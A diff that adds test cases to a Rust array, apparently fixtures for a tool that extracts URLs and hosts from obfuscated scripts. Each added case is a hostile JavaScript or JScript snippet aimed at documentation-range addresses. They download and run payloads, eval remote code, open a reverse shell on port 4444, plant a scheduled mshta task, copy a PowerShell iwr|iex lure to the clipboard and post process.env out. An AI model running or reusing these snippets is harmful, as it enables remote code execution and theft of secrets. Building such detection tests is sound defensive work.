@@ -246,6 +246,10 @@ const FORMS: &[(&str, &[&str])] = &[
         &["http://192.0.2.77/b"],
     ),
     (
+        "var s=new ActiveXObject(\"WScript.Shell\");var e=s.Environment(\"PROCESS\");e(\"ZZ\")=\"http://192.0\"+\".2.78/b\";s.Run(\"cmd /c curl %ZZ% -o %TEMP%\\\\b.exe\",0);\n",
+        &["http://192.0.2.78/b"],
+    ),
+    (
         "/*@cc_on @*/\n/*@if (@_win32) new ActiveXObject(\"WScript.Shell\").Run(\"mshta \"+\"http://192.0\"+\".2.79/b\"); @end @*/\n",
         &["http://192.0.2.79/b"],
     ),
@@ -285,6 +289,155 @@ const FORMS: &[(&str, &[&str])] = &[
     (
         "var t='aHR0cDovLzE5Mi4wLjIuODkvYg';function b64(s){var e={},i,b=0,c,x,l=0,a,r='',w=String.fromCharCode,L=s.length;var A=\"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\";for(i=0;i<64;i++){e[A.charAt(i)]=i;}for(x=0;x<L;x++){c=e[s.charAt(x)];b=(b<<6)+c;l+=6;while(l>=8){((a=(b>>>(l-=8))&0xff)||(x<(L-2)))&&(r+=w(a));}}return r;}\nfetch(b64(t));\n",
         &["http://192.0.2.89/b"],
+    ),
+    (
+        "const h=require('http2').connect('https://192.0'+'.2.1');h.request({':path':'/a'});\n",
+        &["https://192.0.2.1"],
+    ),
+    (
+        "require('https').get({protocol:'https:',hostname:['192','0','2','2'].join('.'),path:'/a',agent:false},()=>{});\n",
+        &["https://192.0.2.2/a"],
+    ),
+    (
+        "const {promisify}=require('util');const ex=promisify(require('child_process').exec);ex('wget -qO- '+'http://192.0'+'.2.3/a'+' | sh');\n",
+        &["http://192.0.2.3/a"],
+    ),
+    (
+        "require('child_process').spawn('curl',['-s','http://192.0'+'.2.4/a','-o','/tmp/a'],{shell:true}).on('close',()=>{});\n",
+        &["http://192.0.2.4/a"],
+    ),
+    (
+        "require('axios').request({baseURL:'http://192.0'+'.2.5/v',url:'/a',method:'get'}).then(r=>eval(r.data));\n",
+        &["http://192.0.2.5/v/a"],
+    ),
+    (
+        "import axios from 'axios';\nconst {data}=await axios.get('http://192.0'+'.2.6/a');\nnew Function(data)();\n",
+        &["http://192.0.2.6/a"],
+    ),
+    (
+        "const got=require('got');(async()=>{const b=await got('http://192.0'+'.2.7/a').json();eval(b.c)})();\n",
+        &["http://192.0.2.7/a"],
+    ),
+    (
+        "const {Client}=require('ssh2');const c=new Client();c.on('ready',()=>{}).connect({host:['192','0','2','8'].join('.'),port:2222,username:'a',password:'b'});\n",
+        &["192.0.2.8:2222"],
+    ),
+    (
+        "require('nodemailer').createTransport({host:'smtp.'+'example.com',port:465,secure:true,auth:{user:'a',pass:'b'}}).sendMail({});\n",
+        &["smtp.example.com:465"],
+    ),
+    (
+        "const ftp=require('basic-ftp');(async()=>{const c=new ftp.Client();await c.access({host:['192','0','2','10'].join('.'),user:'a',password:'b'});})();\n",
+        &["192.0.2.10"],
+    ),
+    (
+        "const s=require('net').connect({host:['192','0','2','11'].join('.'),port:4444});s.on('data',d=>require('child_process').exec(d.toString()));\n",
+        &["192.0.2.11:4444"],
+    ),
+    (
+        "const n=require('net');const c=n.createConnection(9001,['192','0','2','12'].join('.'));c.write('x');\n",
+        &["192.0.2.12:9001"],
+    ),
+    (
+        "(async()=>{const d=require('dns').promises;const r=await d.resolveTxt(['t','example','net'].join('.'));eval(r[0][0])})();\n",
+        &["t.example.net"],
+    ),
+    (
+        "(function(a,k){var s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^k);return Function(s)();})([...'fetch(\"http://192.0\"+\".2.13/a\")'].map(c=>c.charCodeAt(0)^7),7);\n",
+        &["http://192.0.2.13/a"],
+    ),
+    (
+        "const d=new Proxy({},{get:(_,k)=>Buffer.from(k,'base64').toString()});fetch(d['aHR0cDovLzE5Mi4wLjIuMTQvYQ==']);\n",
+        &["http://192.0.2.14/a"],
+    ),
+    (
+        "const t=(s,...v)=>s.raw.map((x,i)=>x+(v[i]??'')).join('').split('').reverse().join('');fetch(t`a/51.2.0.${'291'}//:ptth`.replace('291','192'));\n",
+        &["http://192.0.2.15/a"],
+    ),
+    (
+        "function* g(){yield 'http://';yield '192.0.2';yield '.16/a';}fetch([...g()].join(''));\n",
+        &["http://192.0.2.16/a"],
+    ),
+    (
+        "class C{static #u='http://192.0';static get u(){return C.#u+'.2.17/a'}}fetch(C.u);\n",
+        &["http://192.0.2.17/a"],
+    ),
+    (
+        "Reflect.apply(globalThis['fe'+'tch'],globalThis,['http://192.0'+'.2.18/a']);\n",
+        &["http://192.0.2.18/a"],
+    ),
+    (
+        "setInterval(()=>{fetch('http://192.0'+'.2.19/a').then(r=>r.text()).then(t=>t&&eval(t))},5000);\n",
+        &["http://192.0.2.19/a"],
+    ),
+    (
+        "process.nextTick(()=>require('http').get('http://192.0'+'.2.20/a'));\n",
+        &["http://192.0.2.20/a"],
+    ),
+    (
+        "const os=require('os');const u=os.platform()==='win32'?'http://192.0.2.21/w':'http://192.0.2.21/l';require('child_process').exec('curl '+u);\n",
+        &["http://192.0.2.21/w", "http://192.0.2.21/l"],
+    ),
+    (
+        "var u='68747470 3a2f2f 3139322e302e322e3232 2f61'.replace(/\\s/g,'').replace(/../g,function(x){return String.fromCharCode(parseInt(x,16))});\nvar h=new ActiveXObject('Msxml2.XMLHTTP');h.open('GET',u,0);h.send();\n",
+        &["http://192.0.2.22/a"],
+    ),
+    (
+        "var e=new ActiveXObject('WScript.Shell').Exec('cmd');e.StdIn.WriteLine('curl http://192.0'+'.2.23/a');e.StdIn.Close();\n",
+        &["http://192.0.2.23/a"],
+    ),
+    (
+        "var s=new ActiveXObject('Schedule.Service');s.Connect();var f=s.GetFolder('\\\\');var t=s.NewTask(0);var a=t.Actions.Create(0);a.Path='mshta';a.Arguments='http://192.0'+'.2.25/a';f.RegisterTaskDefinition('x',t,6,null,null,3);\n",
+        &["http://192.0.2.25/a"],
+    ),
+    (
+        "var d=new ActiveXObject('Scripting.Dictionary');d.Add('a','http://');d.Add('b','192.0.2.26/a');var u='';for(var e=new Enumerator(d.Keys());!e.atEnd();e.moveNext())u+=d.Item(e.item());new ActiveXObject('WScript.Shell').Run('mshta '+u);\n",
+        &["http://192.0.2.26/a"],
+    ),
+    (
+        "var d=new ActiveXObject('Scripting.Dictionary');d.Add('http://',1);d.Add('192.0.2.27/a',2);var k=new VBArray(d.Keys()).toArray();new ActiveXObject('WScript.Shell').Run('mshta '+k.join(''));\n",
+        &["http://192.0.2.27/a"],
+    ),
+    (
+        "var h=new ActiveXObject('htmlfile');h.parentWindow.execScript('var q=\"http://192.0\"+\".2.28/a\";','JScript');new ActiveXObject('WScript.Shell').Run('mshta '+h.parentWindow.q);\n",
+        &["http://192.0.2.28/a"],
+    ),
+    (
+        "fetch('http://192.0'+'.2.29/a').then(r=>r.blob()).then(b=>{const a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.exe';a.click();});\n",
+        &["http://192.0.2.29/a"],
+    ),
+    (
+        "function cp(){const t=document.createElement('textarea');t.value='powershell -w hidden -c \"iwr http://192.0'+'.2.30/a|iex\"';document.body.appendChild(t);t.select();document.execCommand('copy');navigator.clipboard.writeText(t.value);}document.getElementById('b').onclick=cp;\n",
+        &["http://192.0.2.30/a"],
+    ),
+    (
+        "document.body.innerHTML='<svg onload=\"fetch(\\'http://192.0'+'.2.31/a\\')\"></svg>';\n",
+        &["http://192.0.2.31/a"],
+    ),
+    (
+        "document.write('<form id=f method=post action=\"http://192.0'+'.2.32/p\"><input name=a value=b></form>');document.getElementById('f').submit();\n",
+        &["http://192.0.2.32/p"],
+    ),
+    (
+        "$(document).ready(function(){$('#x').load('http://192.0'+'.2.33/a');});\n",
+        &["http://192.0.2.33/a"],
+    ),
+    (
+        "fetch(decodeURIComponent(escape(window.atob('aHR0cDovLzE5Mi4wLjIuMzQvYQ=='))));\n",
+        &["http://192.0.2.34/a"],
+    ),
+    (
+        "var n=[3232235555],u='http://'+[192,0,2,35].map(x=>x).join('.')+'/a';XMLHttpRequest.prototype.go=function(){this.open('GET',u);this.send()};new XMLHttpRequest().go();\n",
+        &["http://192.0.2.35/a"],
+    ),
+    ("with({a:'http://192.0',b:'.2.36/a'}){fetch(a+b)}\n", &["http://192.0.2.36/a"]),
+    (
+        "outer:for(var i=0;;i++){for(;;){if(i>3)break outer;continue outer;}}try{throw '.2.37/a'}catch(e){fetch('http://192.0'+e)}finally{}\n",
+        &["http://192.0.2.37/a"],
+    ),
+    (
+        "const p=process?.env?.npm_config_registry??'';const cfg={h:'192.0.2.38',p:'/c'};require('https').request({host:cfg.h,path:cfg.p,method:'POST',headers:{'content-type':'text/plain'}},r=>{}).end(JSON.stringify(process.env));\n",
+        &["https://192.0.2.38/c"],
     ),
 ];
 
